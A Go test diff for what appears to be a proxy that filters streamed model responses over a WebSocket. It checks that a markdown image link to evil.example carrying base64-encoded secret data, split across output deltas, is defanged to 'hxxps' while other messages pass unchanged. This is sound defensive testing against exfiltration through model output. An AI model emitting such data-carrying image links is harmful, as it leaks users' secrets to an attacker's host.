@@ -190,3 +190,22 @@ func TestW13ACallOfAnotherSocketIsRefused(t *testing.T) {
 		t.Errorf("%+v", i)
 	}
 }
+
+// W13: a link that carries data away loses its teeth in a socket's messages too,
+// and what is not changed leaves as it came.
+func TestW13ALinkOverAWebSocketIsMadeHarmless(t *testing.T) {
+	delta := func(text string) string {
+		return `{"type":"response.output_text.delta","sequence_number":1,"item_id":"m","output_index":0,"content_index":0,"delta":"` + text + `"}`
+	}
+	said := []string{
+		`{"type":"response.created","sequence_number":0,"response":{"id":"r1","model":"gpt-4o","status":"in_progress","output":[]}}`,
+		delta("See [a](https://docs.exa"), delta("mple/a) or ![b](https://evil.example/?d=c2VjcmV0IHBhc3N3"), delta("b3JkIGlzIGh1bnRlcjI)"), delta(" now"),
+		`{"type":"response.completed","sequence_number":5,"response":{"id":"r1","model":"gpt-4o","status":"completed","output":[]}}`,
+	}
+	got, closed, _ := socketTurn(t, "/v1/openai/p/responses", `{"type":"response.create","response":{"model":"gpt-4o","input":"Hello"}}`, said)
+	all := strings.Join(got, "\n")
+	if len(got) != len(said) || got[1] != said[1] || got[4] != said[4] || got[5] != said[5] || closed != "bye" ||
+		!strings.Contains(all, "hxxps://evil.example") || strings.Contains(all, "https://evil") {
+		t.Errorf("the client got %s\nand %q", all, closed)
+	}
+}
